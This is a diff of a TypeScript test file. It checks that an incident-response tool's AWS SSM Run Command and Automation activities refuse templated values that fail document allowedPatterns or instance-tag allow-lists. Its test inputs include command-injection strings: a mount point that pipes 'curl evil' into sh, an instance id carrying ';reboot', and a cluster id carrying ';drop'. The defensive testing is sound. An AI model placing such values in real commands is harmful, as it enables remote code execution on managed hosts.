@@ -1,20 +1,25 @@
 // AWS SSM actions against moto in server mode (the real part behind the real SDK client): Run
 // Command with idempotency across retried attempts, output capture, and a playbook with an
 // ssm-command step end to end on a real Temporal dev server. moto 5.2.5 does not implement
-// StartAutomationExecution / GetAutomationExecution / ListCommandInvocations (see README).
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+// StartAutomationExecution / GetAutomationExecution / ListCommandInvocations (see README). Before
+// sending, the activity reads the document (GetDocument) and refuses values outside its declared
+// allowedPattern: moto has no AWS-owned documents, so AWS-RunShellScript is created here.
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import type { Info } from '@temporalio/activity';
 import { ListCommandsCommand, SendCommandCommand } from '@aws-sdk/client-ssm';
 import { commandComment, createSsmActivities, type SsmCommandInput, type SsmCommandResult } from '../../activities/ssm.js';
 import { PlaybookSchema } from '../../src/playbooks/schema.js';
 import { incidentIdFrom, startMedic, type Medic } from '../support/medic.js';
-import { startMoto, type Moto } from '../support/moto.js';
+import { AWS_RUN_SHELL_SCRIPT, startMoto, type Moto } from '../support/moto.js';
 
 let moto: Moto;
 beforeAll(async () => {
   moto = await startMoto();
-});
+  await moto.createDocument('AWS-RunShellScript', AWS_RUN_SHELL_SCRIPT);
+  await moto.createShippedDocument('Medic-CleanDisk');
+  await moto.createShippedDocument('Medic-FailoverAuroraCluster', 'Automation');
+}, 60_000);
 afterAll(() => moto?.stop());
 
 /** Runs an activity function with a Temporal activity context (heartbeats, attempt, details). */
@@ -32,6 +37,14 @@ const command = (over: Partial<SsmCommandInput> = {}): SsmCommandInput => ({
   timeoutMs: 10_000,
   ...over,
 });
+const refusedWith = async (run: Promise<unknown>): Promise<{ type?: string; nonRetryable?: boolean; message: string }> => {
+  const err = (await run.then(
+    () => undefined,
+    (e: unknown) => e,
+  )) as { type?: string; nonRetryable?: boolean; message: string } | undefined;
+  if (!err) throw new Error('expected a refusal, but the activity succeeded');
+  return err;
+};
 const commandsWith = async (comment: string) =>
   ((await moto.ssm.send(new ListCommandsCommand({}))).Commands ?? []).filter((c) => c.Comment === comment);
 
@@ -105,7 +118,104 @@ describe('ssmRunCommand against moto', () => {
   });
 });
 
+describe('ssmRunCommand re-validates rendered values before sending (GetDocument, allow.ssm)', () => {
+  it('a value outside the document parameter’s allowedPattern is refused; nothing is sent', async () => {
+    const input = command({ documentName: 'Medic-CleanDisk', parameters: { Mountpoint: ["/'; curl evil|sh; '"] }, templated: ['Mountpoint'] });
+    const err = await refusedWith(inActivity({}, acts().ssmRunCommand, input));
+    expect(err).toMatchObject({ type: 'SsmRefused', nonRetryable: true });
+    expect(err.message).toBe("refused: parameter `Mountpoint` value `/'; curl evil|sh; '` does not match `^/[A-Za-z0-9/_.-]*$` (document Medic-CleanDisk)");
+    expect(await commandsWith(commandComment(input.idempotencyKey))).toHaveLength(0);
+  });
+
+  it('a parameter the document does not declare, or a templated one without allowedPattern, is refused', async () => {
+    const unknown = command({ documentName: 'Medic-CleanDisk', parameters: { commands: ['id'] } });
+    expect((await refusedWith(inActivity({}, acts().ssmRunCommand, unknown))).message).toBe('refused: document Medic-CleanDisk has no parameter `commands`');
+    const templated = command({ parameters: { commands: ['df -h /var'] }, templated: ['commands'] });
+    expect((await refusedWith(inActivity({}, acts().ssmRunCommand, templated))).message).toBe(
+      'refused: parameter `commands` takes a value from alert data, but document AWS-RunShellScript declares no allowedPattern for it',
+    );
+    expect(await commandsWith(commandComment(unknown.idempotencyKey))).toHaveLength(0);
+    expect(await commandsWith(commandComment(templated.idempotencyKey))).toHaveLength(0);
+  });
+
+  it('a malformed instance id is refused before any AWS call, also in a dry run', async () => {
+    const input = command({ instanceIds: ['i-0123;reboot'], dryRun: true });
+    expect((await refusedWith(inActivity({}, acts().ssmRunCommand, input))).message).toBe('refused: instance id `i-0123;reboot` does not match `^(i|mi)-[0-9a-f]{8,17}$`');
+  });
+
+  it('allow.ssm.instanceTags: the instance’s EC2 tags are read; an instance without them is refused', async () => {
+    const ec2Acts = createSsmActivities({ ssm: moto.ssm, ec2: moto.ec2, pollMs: { initial: 50, max: 200 } });
+    const [managed, other] = ['i-0a11ba5ed0000001a', 'i-0a11ba5ed0000002b'];
+    await moto.tagInstance(managed, { 'medic-managed': 'true' });
+    await moto.tagInstance(other, { 'medic-managed': 'false' });
+    const allow = { instanceTags: { 'medic-managed': ['true'] } };
+    const base = { documentName: 'Medic-CleanDisk', parameters: { Mountpoint: ['/var'] }, templated: ['Mountpoint'], allow };
+    const bad = command({ ...base, instanceIds: [other] });
+    expect((await refusedWith(inActivity({}, ec2Acts.ssmRunCommand, bad))).message).toBe(
+      `refused: instance \`${other}\` is not allow-listed: tag \`medic-managed\` is \`false\`, allow.ssm.instanceTags.medic-managed wants true`,
+    );
+    expect(await commandsWith(commandComment(bad.idempotencyKey))).toHaveLength(0);
+    const ok = command({ ...base, instanceIds: [managed] });
+    const r = await inActivity({}, ec2Acts.ssmRunCommand, ok);
+    expect(r.status).toBe('Success');
+    const [sent] = await commandsWith(commandComment(ok.idempotencyKey));
+    // (The activity also sends the DocumentVersion it checked; moto does not keep it.)
+    expect(sent).toMatchObject({ DocumentName: 'Medic-CleanDisk', InstanceIds: [managed], Parameters: { Mountpoint: ['/var'] } });
+  });
+
+  it('tag targets are narrowed to the allow-listed tags, so SSM picks only allow-listed instances', async () => {
+    // A moto of its own: moto adds every running instance to commands sent without Targets.
+    const own = await startMoto();
+    onTestFinished(() => own.stop());
+    await own.createShippedDocument('Medic-CleanDisk');
+    const ec2Acts = createSsmActivities({ ssm: own.ssm, ec2: own.ec2, pollMs: { initial: 50, max: 200 } });
+    const web = await own.runInstance({ Role: 'web', 'medic-managed': 'true' });
+    await own.runInstance({ Role: 'web', 'medic-managed': 'false' });
+    const input = command({
+      documentName: 'Medic-CleanDisk',
+      parameters: { Mountpoint: ['/'] },
+      instanceIds: [],
+      targets: [{ key: 'tag:Role', values: ['web'] }],
+      allow: { instanceTags: { 'medic-managed': ['true'] } },
+    });
+    await inActivity({}, ec2Acts.ssmRunCommand, input);
+    const [sent] = (await own.ssm.send(new ListCommandsCommand({}))).Commands ?? [];
+    expect(sent?.Targets).toEqual([
+      { Key: 'tag:Role', Values: ['web'] },
+      { Key: 'tag:medic-managed', Values: ['true'] },
+    ]);
+    expect(sent?.InstanceIds).toEqual([web]);
+  });
+});
+
 describe('ssmAutomation against moto', () => {
+  it('a rendered value outside the runbook parameter’s allowedPattern is refused before StartAutomationExecution', async () => {
+    const run = inActivity({}, acts().ssmAutomation, {
+      documentName: 'Medic-FailoverAuroraCluster',
+      parameters: { DBClusterIdentifier: ['orders;drop'], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
+      templated: ['DBClusterIdentifier'],
+      idempotencyKey: 'incident:db:step-1:try-1',
+      dryRun: false,
+      timeoutMs: 5_000,
+    });
+    const err = await refusedWith(run);
+    expect(err).toMatchObject({ type: 'SsmRefused', nonRetryable: true });
+    expect(err.message).toBe('refused: parameter `DBClusterIdentifier` value `orders;drop` does not match `^[a-zA-Z][a-zA-Z0-9-]{0,62}$` (document Medic-FailoverAuroraCluster)');
+  });
+
+  it('a valid value passes the checks and reaches StartAutomationExecution (which moto 5.2.5 lacks)', async () => {
+    const run = inActivity({}, acts().ssmAutomation, {
+      documentName: 'Medic-FailoverAuroraCluster',
+      parameters: { DBClusterIdentifier: ['orders-db'], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
+      templated: ['DBClusterIdentifier'],
+      allow: { parameters: { DBClusterIdentifier: ['~orders-[a-z0-9-]*'] } },
+      idempotencyKey: 'incident:db:step-1:try-2',
+      dryRun: false,
+      timeoutMs: 5_000,
+    });
+    await expect(run).rejects.toThrow('StartAutomationExecution failed');
+  });
+
   it('dry run starts nothing', async () => {
     const r = await inActivity({}, acts().ssmAutomation, {
       documentName: 'AWS-RestartEC2Instance',
@@ -119,8 +229,8 @@ describe('ssmAutomation against moto', () => {
 
   it('moto 5.2.5 does not implement StartAutomationExecution: the call reaches it and fails as a retryable server error', async () => {
     const run = inActivity({}, acts().ssmAutomation, {
-      documentName: 'AWS-RestartEC2Instance',
-      parameters: { InstanceId: ['i-0123456789abcdef0'] },
+      documentName: 'Medic-FailoverAuroraCluster',
+      parameters: { DBClusterIdentifier: ['orders-db'], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
       idempotencyKey: 'incident:x:step-0:try-1',
       dryRun: false,
       timeoutMs: 5_000,
@@ -145,15 +255,16 @@ describe('a playbook with an ssm-command step, end to end', () => {
         match: { alertname: 'DiskFullE2E' },
         groupBy: ['alertname', 'instance_id'],
         target: 'ec2/{{labels.instance_id}}',
+        allow: { ssm: { instanceIds: ['~i-0e2e[0-9a-f]+'] } },
         steps: [
           {
             name: 'clean-up-disk',
             action: 'ssm-command',
             timeout: '20s',
             params: {
-              document: 'AWS-RunShellScript',
+              document: 'Medic-CleanDisk',
               instanceIds: ['{{labels.instance_id}}'],
-              parameters: { commands: ['journalctl --vacuum-size=200M', 'df -h {{labels.mountpoint}}'] },
+              parameters: { Mountpoint: '{{labels.mountpoint}}', JournalMaxSize: '200M' },
             },
           },
         ],
@@ -166,9 +277,9 @@ describe('a playbook with an ssm-command step, end to end', () => {
     expect(final.status).toBe('resolved');
     const timeline = await m.timeline(id);
     const started = timeline.find((e) => e.kind === 'action' && e.message.includes('started'));
-    expect(started?.message).toContain('SSM Run Command AWS-RunShellScript on i-0e2e0e2e0e2e0e2e0');
+    expect(started?.message).toContain('SSM Run Command Medic-CleanDisk on i-0e2e0e2e0e2e0e2e0');
     const finished = timeline.find((e) => e.kind === 'action' && e.message.includes('finished'));
-    expect(finished?.message).toMatch(/SSM AWS-RunShellScript on i-0e2e0e2e0e2e0e2e0 → Success \(command [0-9a-f-]{36}\)/);
+    expect(finished?.message).toMatch(/SSM Medic-CleanDisk on i-0e2e0e2e0e2e0e2e0 → Success \(command [0-9a-f-]{36}\)/);
     const data = finished?.data as { commandId: string; status: string; invocations: unknown[] };
     expect(data.status).toBe('Success');
     expect(data.invocations).toEqual([{ instanceId: 'i-0e2e0e2e0e2e0e2e0', status: 'Success', responseCode: 0, output: '', error: '' }]);
@@ -178,7 +289,7 @@ describe('a playbook with an ssm-command step, end to end', () => {
     expect(sent[0]).toMatchObject({
       CommandId: data.commandId,
       InstanceIds: ['i-0e2e0e2e0e2e0e2e0'],
-      Parameters: { commands: ['journalctl --vacuum-size=200M', 'df -h /var'] },
+      Parameters: { Mountpoint: ['/var'], JournalMaxSize: ['200M'] },
     });
   });
 });
